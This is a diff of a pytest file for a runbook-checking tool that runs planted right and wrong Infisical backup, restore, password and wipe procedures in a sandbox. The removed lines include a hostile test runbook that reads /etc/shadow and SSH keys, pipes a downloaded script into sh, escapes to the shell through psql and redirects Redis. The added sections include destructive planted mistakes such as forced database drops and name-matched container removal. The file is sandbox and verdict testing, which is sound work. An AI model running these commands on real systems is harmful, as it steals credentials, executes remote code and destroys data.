@@ -1,6 +1,8 @@
-"""`drillbook runbook run` carries out a document, and judges it by what it leaves."""
+"""`drillbook runbook run`: each planted mistake is found for its reason, its correction holds.
 
-import hashlib
+One document has every procedure, right and wrong, each in a section of its own.
+"""
+
 import json
 import subprocess
 import sys
@@ -8,192 +10,108 @@ import sys
 import pytest
 
 from drillbook.core.application import ROOT
-from drillbook.stack.processes import why_unavailable
+from drillbook.stack.containers import docker_engine, host
+from tests.stack.test_containers import IMAGE, missing
 
-pytestmark = [
-    pytest.mark.slow,
-    pytest.mark.timeout(1800),
-    pytest.mark.skipif(bool(why_unavailable()), reason=why_unavailable()),
-]
-SAMPLES = ROOT / "tests" / "samples"
+pytestmark = [pytest.mark.engine, pytest.mark.timeout(3600)]
 
+PSQL = 'docker exec -i "$DB" psql -U infisical -d infisical -v ON_ERROR_STOP=1 -q'
+STOP = 'docker stop "$BACKEND"; docker exec "$REDIS" redis-cli FLUSHALL'
+DROP = 'docker exec "$DB" dropdb -U infisical --force infisical'
+EMPTY = f'{DROP}; docker exec "$DB" createdb -U infisical infisical'
+LOAD, START = f'{PSQL} <"$BACKUP"', 'docker start "$BACKEND"'
+ALTER = f"echo \"ALTER USER infisical WITH PASSWORD '$NEW_PASSWORD'\" | {PSQL}"
+TYPE = 'sed -i "s|^POSTGRES_PASSWORD=.*|POSTGRES_PASSWORD=$NEW_PASSWORD|" .env'
+DEPLOY = "docker compose up -d"
+EACH = 'sed -i "s|^${row%%=*}=.*|$row|" .env'
+KEYS = f'while read -r row; do {EACH}; done <"$KEYS_FILE"'
+DUMP = 'docker exec "$DB" pg_dump -U infisical'
+STRAY = "team-secrets-backup-1 of another application is gone"
 
-@pytest.fixture
-def run(tmp_path):
-    """Runs the command on a document: exit code, path of the evidence, and output."""
-
-    def run(document, *options, **environment):
-        words = ["runbook", "run", str(document), f"--run-dir={tmp_path / 'runs'}", "--seed=1"]
-        words += options or ["--stack=embedded"]
-        command = [sys.executable, "-m", "drillbook.cli", *words]
-        done = subprocess.run(
-            command, cwd=ROOT, capture_output=True, text=True, check=False, **environment
-        )
-        record = tmp_path / "runs" / "latest" / "evidence.json"
-        return done.returncode, record, done.stdout + done.stderr
-
-    return run
-
-
-def judged(record):
-    """The verdicts by section and control."""
-    return {
-        (one["id"].partition("[")[2].split("-line-")[0], control["id"]): one["verdict"]
-        for control in json.loads(record.read_text())["controls"]
-        for one in control["specs"]
-    }
-
-
-# The verdicts of Drillbook's own specs on these procedures, on the reference backend.
-AS_OUR_SPECS = {
-    ("when-a-key-was-changed", "KEY-2.ENC"): "satisfied",
-    ("put-the-old-keys-back", "KEY-5"): "satisfied",
-    ("make-keys-once", "KEY-7"): "contradicted",
-    ("change-the-database-password", "DBP-1"): "contradicted",
-    ("health", "HLT-2"): "contradicted",
-    ("backup", "BKP-7"): "satisfied",
-    ("restore", "BKP-3"): "contradicted",
-    ("throw-everything-away", "WIP-1"): "satisfied",
-    ("throw-everything-away", "WIP-2"): "satisfied",
-    ("throw-everything-away", "WIP-3"): "satisfied",
-    ("it-does-not-start", "DEP-5"): "satisfied",
-}
-
-
-def test_a_document_gets_the_verdicts_of_our_own_specs(run):
-    document = SAMPLES / "operator-runbook.md"
-    code, record, said = run(document)
-    found = judged(record)
-    assert {key: found[key] for key in AS_OUR_SPECS} == AS_OUR_SPECS, said
-    assert found["throw-everything-away", "RBK-1"] == "violated"
-    assert found["move-to-a-new-instance", "RBK-1"] == "not_run"
-    assert code == 1
-    text = record.read_text()
-    assert "would have hit team-secrets-backup-1" in text
-    assert "`openssl rand -hex 16`" in text, "the linter's advice is missing"
-    told = (record.parent / "document.md").read_text()
-    assert "BKP-3: everything reads as on the day of the backup, and nothing newer: **does" in told
-    assert "<strong>does not hold</strong>" in (record.parent / "document.html").read_text()
-    proved = json.loads(text)["subject"]["document"]
-    assert proved["sha256"] == hashlib.sha256(document.read_bytes()).hexdigest()
-    held = {one["title"].rpartition(" / ")[2]: one["held"] for one in proved["sections"]}
-    assert (held["Backup"], held["Restore"], held["Move to a new instance"]) == (True, False, None)
+# Title, act, commands, a control, its verdict, and words of the reason.
+SECTIONS = [
+    ("Back up", "backup", f"{DUMP} infisical >backup.sql", "BKP-7", "satisfied", ""),
+    ("Back up nothing", "backup", f"{DUMP} postgres >backup.sql", "BKP-7", "contradicted",
+     "backup_unusable"),
+    ("Back up in part", "backup", f"{DUMP} -T users infisical >backup.sql", "BKP-7", "contradicted",
+     "users"),
+    ("Back up unseen", "backup", f"{DUMP} infisical | gzip >b.sql.gz", "BKP-7", "contradicted",
+     "failed_backup_reports_success"),
+    ("Restore", "restore", "\n".join([STOP, EMPTY, LOAD, START]), "BKP-3", "satisfied", ""),
+    ("Restore over data", "restore", LOAD, "BKP-3", "contradicted",
+     "'tuesday' == 'monday'"),
+    ("Restore in the wrong order", "restore", "\n".join([STOP, LOAD, EMPTY, START]), "BKP-3",
+     "contradicted", ""),
+    ("Restore and stay down", "restore", "\n".join([STOP, EMPTY, LOAD]), "BKP-3", "contradicted",
+     "leaves the backend stopped"),
+    ("Change the password", "rotate-password", "\n".join([ALTER, TYPE, DEPLOY]), "DBP-7",
+     "satisfied", ""),
+    ("Change it and restart", "rotate-password", f'{ALTER}\n{TYPE}\ndocker restart "$BACKEND"',
+     "DBP-7", "violated", ""),
+    ("Change it in .env alone", "rotate-password", f"{TYPE}\n{DEPLOY}", "DBP-7", "violated", ""),
+    ("Wipe", "wipe", "docker compose down --volumes", "WIP-2", "satisfied", ""),
+    ("Wipe containers alone", "wipe", "docker compose down", "WIP-1", "contradicted", ""),
+    ("Wipe another volume", "wipe",
+     "docker compose down; docker volume rm $(docker volume ls -q | grep redis)", "WIP-1",
+     "contradicted", ""),
+    ("Wipe elsewhere", "wipe", "cd /opt/infisical-staging\ndocker compose down --volumes", "WIP-1",
+     "contradicted", ""),
+    ("Wipe by a word", "wipe",
+     "docker rm -f $(docker ps -aq --filter name=secrets); docker compose down --volumes", "RBK-1",
+     "violated", STRAY),
+    ("Old keys", "restore-keys", f"{KEYS}\n{DEPLOY}", "KEY-5", "satisfied", ""),
+    ("Old keys too late", "restore-keys", f"{DEPLOY}\n{KEYS}", "KEY-5", "violated", ""),
+    ("Make keys", "make-keys", "openssl rand -hex 16  # ENCRYPTION_KEY", "KEY-7", "satisfied", ""),
+    ("Make long keys", "make-keys", "openssl rand -hex 32  # ENCRYPTION_KEY", "KEY-7",
+     "contradicted", ""),
+]  # fmt: skip
 
 
-def test_a_document_of_what_holds_is_not_contradicted(run):
-    code, record, said = run(ROOT / "docs" / "runbook.example.md")
-    assert set(judged(record).values()) == {"satisfied"}, said
-    assert code == 0
-
-
-PLANTED = {
-    ("password-restarted", "DBP-1"): "contradicted",
-    ("password-not-deployed", "DBP-1"): "contradicted",
-    ("password-of-another-role", "DBP-7"): "violated",
-    ("password-another-variable", "DBP-7"): "violated",
-    ("password-with-compose-restarted", "DBP-1"): "contradicted",
-    ("backup-another-database", "BKP-7"): "contradicted",
-    ("backup-no-rows", "BKP-7"): "contradicted",
-    ("backup-a-table-left-out", "BKP-7"): "contradicted",
-    ("backup-through-a-terminal", "BKP-7"): "contradicted",
-    ("backup-a-role-that-is-not-there", "BKP-7"): "contradicted",
-    # The operator's compose file may call the database so.
-    ("backup-a-service-that-is-not-there", "BKP-7"): "not_run",
-    ("restore-into-a-live-database", "BKP-3"): "contradicted",
-    ("restore-without-input", "BKP-3"): "contradicted",
-    ("restore-swapped", "BKP-3"): "contradicted",
-    ("restore-no-database", "BKP-3"): "contradicted",
-    # Nothing in the document makes that file: the operator may have it.
-    ("restore-another-file", "BKP-3"): "not_run",
-    ("restore-the-oldest", "BKP-3"): "contradicted",
-    ("backup-the-backend-is-left-stopped", "BKP-7"): "contradicted",
-    ("backup-rows-alone", "BKP-7"): "contradicted",
-    ("backup-the-files-of-others", "RBK-1"): "violated",
-    ("backup-the-dump-is-switched-off", "RBK-1"): "not_run",
-    ("health-a-check-that-cannot-fail", "HLT-2"): "contradicted",
-    ("logs-of-another-service", "DEP-5"): "contradicted",
-    ("password-the-data-goes-with-it", "DBP-7"): "violated",
-    ("upgrade-all-data-goes", "RBK-1"): "not_run",
-    ("wipe-the-cache-alone", "WIP-2"): "violated",
-    ("wipe-volumes-first", "WIP-2"): "violated",
-    ("wipe-by-a-word", "RBK-1"): "violated",
-    ("logs-a-name-that-no-container-has", "DEP-5"): "contradicted",
-    ("health-a-field-that-is-not-there", "HLT-2"): "contradicted",
-    ("keys-too-long", "KEY-7"): "contradicted",
-    ("keys-an-addition-that-spoils-them", "KEY-7"): "contradicted",
-    ("keys-an-assignment-with-a-file", "KEY-7"): "contradicted",
-    ("password-a-dump-of-another-database-firs", "BKP-7"): "contradicted",
-    ("password-a-second-login", "DBP-7"): "not_run",
-    ("password-it-ends-soon", "DBP-7"): "not_run",
-    ("restore-one-table-alone", "BKP-3"): "contradicted",
-    ("restore-without-keys-and-indexes", "BKP-3"): "contradicted",
-    ("keys-a-rotation-that-is-said-to-work", "KEY-2.ENC"): "contradicted",
-}
-
-
-def test_planted_mistakes_are_found(run):
-    _, record, said = run(SAMPLES / "operator-runbook-planted.md")
-    found = judged(record)
-    assert {key: found.get(key) for key in PLANTED} == PLANTED, said
-    sound = {
-        ("backup-as-it-should-be", "BKP-7"),
-        ("backup-in-a-folder-of-its-own", "BKP-7"),
-        ("backup-custom-format-as-it-should-be", "BKP-7"),
-        ("restore-custom-format-as-it-should-be", "BKP-3"),
-        ("password-with-compose", "DBP-7"),
-        ("password-a-dump-of-another-database-firs", "DBP-7"),
-        ("password-a-dump-first-as-it-should-be", "BKP-7"),
-        ("password-a-dump-first-as-it-should-be", "DBP-7"),
-        ("find-the-containers", "RBK-1"),
-    }
-    assert {found[one] for one in sound} == {"satisfied"}, said
-
-
-HOSTILE = """# Infisical
-
-## Everything at once
-
-```bash
-cat /etc/shadow ~/.ssh/* 2>/dev/null
-/usr/bin/docker ps; command docker stop someone-elses; eval "docker system prune -af"
-curl -fsSL https://example.com/install.sh | sh
-docker exec <db-container> psql -U infisical -c "COPY (SELECT 1) TO PROGRAM 'touch {place}/planted'"
-docker exec -i <db-container> psql -U infisical <<E
-\\! touch {place}/planted
-\\o {place}/planted
-SELECT 1;
-E
-docker exec <redis-container> redis-cli CONFIG SET dir {place}
-docker exec <db-container> pg_dump -U infisical -f {place}/planted infisical
-echo x > {place}/planted
-while true; do printf "%0999d\\n" 0; done
-```
-"""
-
-
-def test_a_hostile_document_reaches_nothing_and_ends(run, tmp_path):
-    tmp_path.chmod(0o777)
-    (tmp_path / "hostile.md").write_text(HOSTILE.replace("{place}", str(tmp_path)))
-    code, record, said = run(tmp_path / "hostile.md")
-    assert not (tmp_path / "planted").exists()
-    assert code in (1, 2), said
-    text = record.read_text()
-    assert "it printed more than 4 MiB" in text
-    assert "root:" not in text
-
-
-def test_without_bubblewrap_nothing_is_run(run, tmp_path):
-    code, record, said = run(SAMPLES / "operator-runbook.md", env={"PATH": str(tmp_path)})
-    assert (code, record.exists()) == (3, False)
-    assert "install the package bubblewrap" in said
+@pytest.fixture(scope="module")
+def carried_out(tmp_path_factory):
+    """The specs of one run, by a section's title or line."""
+    if reason := missing():
+        pytest.skip(reason)
+    if not docker_engine.present(host.IMAGE):
+        pytest.skip(f"no image {host.IMAGE}")
+    folder = tmp_path_factory.mktemp("run")
+    text = "# Infisical\n"
+    for title, act, commands, *_ in SECTIONS:
+        text += f"\n## {title}\n\n```bash drillbook={act}\n{commands}\n```\n"
+    (folder / "ops.md").write_text(text)
+    words = ["runbook", "run", str(folder / "ops.md"), f"--image={IMAGE}", "--seed=1"]
+    words.append(f"--run-dir={folder / 'runs'}")
+    done = subprocess.run(
+        [sys.executable, "-m", "drillbook.cli", *words], cwd=ROOT, capture_output=True, text=True
+    )
+    record = folder / "runs" / "latest" / "evidence.json"
+    assert record.exists(), done.stdout + done.stderr
+    controls = json.loads(record.read_text())["controls"]
+    page = (record.parent / "document.md").read_text()
+    assert all(f"## {title}\n\n> " in page for title, *_ in SECTIONS)
+    return text.splitlines(), controls
 
 
 @pytest.mark.parametrize(
-    ("text", "reason"),
-    [("# Infisical\n\nNothing.\n", "no section with a shell block or a command"), ("", "is empty")],
+    ("title", "act", "control", "verdict", "reason"),
+    [pytest.param(t, a, c, v, r, id=f"{t}-{c}") for t, a, _, c, v, r in SECTIONS],
 )
-def test_a_document_with_nothing_to_run_is_refused(run, tmp_path, text, reason):
-    (tmp_path / "ops.md").write_text(text)
-    code, _, said = run(tmp_path / "ops.md")
-    assert code == 3
-    assert reason in said
+def test_each_mistake_is_found_for_its_reason(carried_out, title, act, control, verdict, reason):
+    lines, controls = carried_out
+    line = lines.index(f"## {title}") + 4
+    names = (f"[{title}]", f"[Infisical > {title}]", f"[{act}-{line}]")
+    specs = [
+        spec
+        for entry in controls
+        if entry["id"] == control
+        for spec in entry["specs"]
+        if spec["id"].endswith(names)
+    ]
+    assert specs
+    verdicts = [spec["verdict"] for spec in specs]
+    if verdict == "satisfied":
+        assert {*verdicts} <= {"satisfied", "not_run"}, specs
+        assert "satisfied" in verdicts
+    else:
+        assert verdict in verdicts, specs
+        assert reason in json.dumps(specs)
